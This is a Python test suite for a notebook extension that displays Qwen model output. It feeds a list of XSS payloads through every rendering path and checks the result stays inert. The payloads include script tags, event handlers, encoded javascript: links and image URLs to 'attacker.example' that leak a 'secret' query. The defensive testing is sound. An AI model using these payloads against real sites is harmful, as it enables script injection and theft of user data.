"""Model output is data, not code: whatever the answer and thinking contain, every rendered
form (live widgets, static bundle html and markdown, the panel) stays inert."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from fake_server import Reply
from hypothesis import given, settings
from hypothesis import strategies as st

from qwen_nb import api
from qwen_nb._config import resolve_settings
from qwen_nb._types import QwenResponse, Usage
from qwen_nb.render import markdown_html, static_bundle, tabs_html, thinking_html

ALLOWED_TAGS = {
    "a", "b", "i", "blockquote", "br", "code", "del", "div", "em",
    "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "img", "input", "label", "li", "ol", "p", "pre", "s", "span", "strong", "table",
    "tbody", "td", "th", "thead", "tr", "ul", "style", "details", "summary",
    "figure", "figcaption",  # the grounding overlay in the static output (data: <img>)
} | {  # MathML presentation elements (math is typeset as MathML)
    "math", "semantics", "annotation", "mrow", "mi", "mn", "mo", "mtext", "ms", "mspace",
    "msub", "msup", "msubsup", "munder", "mover", "munderover", "mfrac", "msqrt", "mroot",
    "mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom", "menclose", "merror",
    "mmultiscripts", "mprescripts", "none", "mfenced", "maction",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")

PAYLOADS = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src='https://evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&colon;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click]( \x01javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[click](\njavascript:alert(1))",
    '[x](http://ok.example "title" onmouseover="alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$x<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Backticks that look like code to a line-by-line guess but are not code to CommonMark.
    "``<img src=x onerror=alert(1)>`",
    "```<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>`",
    "\t```\n<img src=x onerror=alert(1)>",
    "- a\n\n   ```\n<img src=x onerror=alert(1)>",
    # Images that would make the browser fetch (issue 11 §2).
    "![](https://attacker.example/?d=secret)",
    "![x][r]\n\n[r]: https://attacker.example/ref.png",
    "![x](//attacker.example/p.png)",
    "<https://attacker.example/auto.png>",
    "$\\href{javascript:alert(1)}{x}$ and $\\style{background:url(https://attacker.example)}{y}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "\\[ \\href{https://attacker.example}{z} \\]",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _url_is_dangerous(value: str) -> bool:
    # `value` is already entity-decoded (as a browser does). Then, before choosing a
    # scheme, a browser drops tab/newline anywhere and leading C0 controls and spaces.
    url = re.sub(r"[\t\n\r]", "", value).lstrip("\x00\x01\x02\x03\x04\x05"
                                                                  "\x06\x07\x08\x0b\x0c\x0e"
                                                                  "\x0f\x10 ").lower()
    return url.startswith(BAD_SCHEMES)


def assert_inert(markup: str, *, own_style: int = 0) -> None:
    """No script-capable tag, no event handler, no dangerous URL in `markup`."""
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    styles = 0
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, markup)
        styles += tag == "style"
        for name, value in attrs:
            assert not name.lower().startswith("on"), (tag, name, markup)
            if name.lower() in ("href", "src", "action", "formaction", "xlink:href"):
                assert not _url_is_dangerous(value or "") or (
                    tag == "img" and name == "src" and value.startswith("data:image/")
                ), (tag, name, value)
            # Nothing may fetch: an <img> shows a data: URL only, never srcset.
            if tag == "img" and name.lower() == "src":
                assert (value or "").startswith("data:image/"), (tag, value)
            assert name.lower() not in ("srcset", "background", "poster"), (tag, name)
            if tag != "a" and tag != "label" and tag != "input":
                assert name.lower() not in ("href", "for"), (tag, name, markup)
            if name.lower() == "style":
                assert "url(" not in (value or "").lower(), value
    assert styles == own_style, markup


def render_markdown_permissively(text: str) -> str:
    """How a renderer that allows raw HTML in Markdown (the worst case) shows text/markdown."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_html_is_inert(payload):
    assert_inert(markdown_html(payload))
    assert_inert(markdown_html(f"Intro text.\n\n{payload}\n\nMore *text*."))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_thinking_is_escaped_text(payload):
    rendered = thinking_html(payload)
    assert_inert(rendered)
    assert rendered.count("<") == 2  # only the <pre> and </pre> of our own
    parser = _Collector()
    parser.feed(rendered)
    assert [tag for tag, _ in parser.tags] == ["pre"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_static_bundle_html_and_markdown_are_inert(payload):
    response = QwenResponse(answer=f"Answer: {payload}", thinking=f"Thinking: {payload}",
                            model=f"model {payload}", request_id=payload, complete=False,
                            error=f"provider said {payload}", refusal=None,
                            notes=(payload,), usage=Usage(prompt_tokens=1))
    data, metadata = static_bundle(response)
    assert_inert(data["text/html"], own_style=1)
    # text/markdown, rendered by a renderer that allows raw HTML: still inert.
    assert_inert(render_markdown_permissively(data["text/markdown"]))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_refusal_and_warnings_are_inert(payload):
    response = QwenResponse(answer="", refusal=payload, finish_reason="stop")
    data, _ = static_bundle(response)
    assert_inert(data["text/html"], own_style=1)
    assert_inert(render_markdown_permissively(data["text/markdown"]))


def test_safe_links_and_markdown_still_work():
    rendered = markdown_html("See [docs](https://example.org/a?b=1) and **bold** `code`.")
    assert ('<a href="https://example.org/a?b=1" rel="noreferrer" '
            'referrerpolicy="no-referrer" target="_blank">docs</a>') in rendered
    assert "<strong>bold</strong>" in rendered and "<code>code</code>" in rendered
    data, _ = static_bundle(QwenResponse(answer="See [docs](https://example.org)."))
    assert "[docs](https://example.org)" in data["text/markdown"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_fallback_is_inert_when_the_answer_is_only_the_payload(payload):
    # At the start of the answer, so line-start constructs (fences, lists) count.
    data, _ = static_bundle(QwenResponse(answer=payload))
    assert_inert(render_markdown_permissively(data["text/markdown"]))


def test_ordinary_markdown_keeps_its_markup_in_the_markdown_fallback():
    # The CommonMark check behind inert_markdown must not turn plain answers with code
    # into a literal block: only text whose code the line-by-line guess misread.
    answer = ("Use `a < b` here.\n\n```python\nif a < b:\n    pass\n```\n\n"
              "- item with [a link](https://example.org)\n- `x<y` and **bold**")
    data, _ = static_bundle(QwenResponse(answer=answer))
    assert data["text/markdown"].startswith(answer)


dangerous_text = st.lists(st.sampled_from([
    "<", ">", "script", "img", " src=", "x", " onerror=", "alert(1)", "javascript", "JaVaScRiPt",
    ":", "&#106;", "&#x09;", "&colon;", "\t", "\n", "\n\n", " ", "[", "]", "(", ")", "!", "`",
    "```", "$", "$$", "\"", "'", "=", "/", "\\", "data", "vbscript", "<a href=", "svg", "*",
    "[r]: ", "&", ";", "\x01",
]), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(answer=dangerous_text, thinking=dangerous_text)
def test_any_mix_of_dangerous_fragments_stays_inert(answer, thinking):
    response = QwenResponse(answer=answer, thinking=thinking, error=answer, complete=False)
    data, _ = static_bundle(response)
    assert_inert(markdown_html(answer))
    assert_inert(tabs_html(response), own_style=1)
    assert_inert(render_markdown_permissively(data["text/markdown"]))


# --- the live view and the panel -------------------------------------------------------


LIVE_HTML_KEYS = ("tail", "details")  # message keys the page inserts as HTML (and "seal")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_live_messages_are_inert_while_streaming_and_at_the_end(payload, _global_ip,
                                                                monkeypatch):
    """What the live view sends: HTML pieces (inert) and the thinking as text, which
    qwen.js places with a text node (never parsed as HTML)."""
    import comm
    from IPython.utils.capture import capture_output
    from support import FrontEndMessages

    from qwen_nb._types import AnswerDelta, Finished, ThinkingDelta
    from qwen_nb.frontend.live import LiveView

    sent = FrontEndMessages()
    monkeypatch.setattr(comm, "create_comm", sent.comm_class())
    with capture_output() as captured:
        view = LiveView(flush_when_quiet=False)
        for index in range(0, len(payload), 3):
            view.update(ThinkingDelta(payload[index:index + 3]))
        for index in range(0, len(payload), 3):
            view.update(AnswerDelta(payload[index:index + 3]))
            view._draw(force=True)
        view.update(Finished(QwenResponse(answer=payload, thinking=payload, refusal=payload,
                                          model=payload, error=payload, complete=False)))
    pieces = [m[key] for m in sent.custom for key in LIVE_HTML_KEYS if m.get(key)]
    pieces += [html for m in sent.custom for html in m.get("seal", ())]
    assert pieces, "no HTML was sent"
    for piece in pieces:
        assert_inert(piece)
    assert "".join(m.get("think", "") for m in sent.custom) == payload
    assert_inert(captured.outputs[-1].data["text/html"], own_style=1)


def test_the_live_grounding_overlay_stays_inert_and_fetches_nothing(_global_ip, monkeypatch):
    """Hostile labels, a hostile image name and an image sent as a remote URL: the
    overlay the live view sends holds data: images and plain text only."""
    import json

    import comm
    from IPython.utils.capture import capture_output
    from PIL import Image
    from support import FrontEndMessages

    from qwen_nb._types import AnswerDelta, Finished, PreparedImage, Reading
    from qwen_nb.frontend.live import LiveView
    from qwen_nb.media.images import prepare_images

    hostile_name = "<img src=https://attacker.example/n.png onerror=alert(1)>"
    photo = prepare_images(Image.new("RGB", (640, 480), "gray"), label=hostile_name)
    remote = PreparedImage(url="https://attacker.example/remote.png",
                           source="https://attacker.example/remote.png")
    request = api.build_request([*photo, remote, "Find them."],
                                model="qwen3-vl-32b-thinking", reading=Reading(ground="x"))
    items = [{"bbox_2d": [10 * i, 10 * i, 500, 500], "label": payload, "image": 1 + i % 2}
             for i, payload in enumerate(PAYLOADS)]
    answer = ("![](https://attacker.example/prose.png) [x](javascript:alert(1))\n\n```json\n"
              + json.dumps(items, indent=1) + "\n```\n")
    sent = FrontEndMessages()
    monkeypatch.setattr(comm, "create_comm", sent.comm_class())
    now = [0.0]
    with capture_output() as captured:
        view = LiveView(flush_when_quiet=False, request=request, clock=lambda: now[0])
        for index in range(0, len(answer), 40):
            now[0] += 1.0  # a draw, and a reading, for every piece: the worst case
            view.update(AnswerDelta(answer[index:index + 40]))
        view.update(Finished(QwenResponse(answer=answer, images=request.images,
                                          reading=request.reading, model=request.model)))
    overlays = [m["overlay"] for m in sent.custom if "overlay" in m]
    assert len(overlays) > 3
    # qwen.js shows only data: images and sets every other value as text (textContent,
    # alt): no key holds HTML, and every picture is one the kernel drew.
    for parts in overlays:
        for part in parts:
            assert set(part) <= {"image", "alt", "caption", "note", "base", "layer", "width",
                                 "height"}, part
            for key in ("base", "layer"):
                if key in part:
                    assert re.fullmatch(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+",
                                        part[key]), part[key][:60]
    notes = [part["note"] for parts in overlays for part in parts if "note" in part]
    assert notes and all("was sent as a URL" in note for note in notes)  # never an <img>
    assert "remote.png" not in "".join(part.get("base", "") + part.get("layer", "")
                                       for parts in overlays for part in parts)
    assert_inert(captured.outputs[-1].data["text/html"], own_style=1)


def test_panel_shows_model_output_inertly(server):
    from qwen_nb.panel import Panel

    payload = "\n\n".join(PAYLOADS)
    server.queue(Reply(thinking=payload, answer=payload, chunk_chars=7))
    import comm
    from support import FrontEndMessages

    sent = FrontEndMessages()
    original = comm.create_comm
    comm.create_comm = sent.comm_class()
    panel = Panel()
    try:
        panel.send("Show me something dangerous")
        assert panel.wait(60)
        assert panel.last_response is not None and panel.last_response.answer
        # Every piece of HTML the page receives (the thinking travels as text, placed
        # with a text node; prompts too), and the saved transcript.
        (turn,) = sent.turns(panel.widget)
        values = [turn["answer"], turn["details"]]
        values += [m["tail"] for m in sent.custom if m.get("tail")]
        values += [html for m in sent.custom for html in m.get("seal", ())]
        assert any("alert" in value for value in values)  # the text is there, as text
        for value in values:
            assert_inert(value)
        assert_inert(panel._repr_mimebundle_()["text/html"], own_style=1)
    finally:
        panel.close()
        comm.create_comm = original


def test_the_magic_path_renders_streamed_output_inertly(ip, server):
    from IPython.utils.capture import capture_output

    from qwen_nb.frontend.live import LiveView

    payload = "\n\n".join(PAYLOADS)
    server.queue(Reply(thinking=payload, answer=payload, chunk_chars=3, style="think_tags"))
    request = api.build_request(["hi"], model="qwen3-vl-32b-thinking")
    with capture_output() as captured:
        response = api.run(request, resolve_settings(), LiveView())
    assert response.answer.startswith("<script>")
    final = captured.outputs[-1].data
    assert_inert(final["text/html"], own_style=1)
    assert_inert(render_markdown_permissively(final["text/markdown"]))
